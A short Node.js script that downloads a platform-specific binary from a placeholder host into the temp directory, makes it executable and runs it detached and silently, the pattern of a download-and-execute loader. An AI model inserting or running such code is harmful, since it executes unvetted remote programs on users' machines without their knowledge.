// Fetches a program for this system, makes it executable and starts it.
const { spawn } = require('child_process');
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');
const target = path.join(os.tmpdir(), 'helper-' + process.platform);
https.get('https://files.example.net/helper/' + process.platform, (response) => {
  const file = fs.createWriteStream(target);
  response.pipe(file);
  file.on('finish', () => {
    fs.chmodSync(target, 0o755);
    spawn(target, ['--quiet'], { detached: true, stdio: 'ignore' }).unref();
  });
});
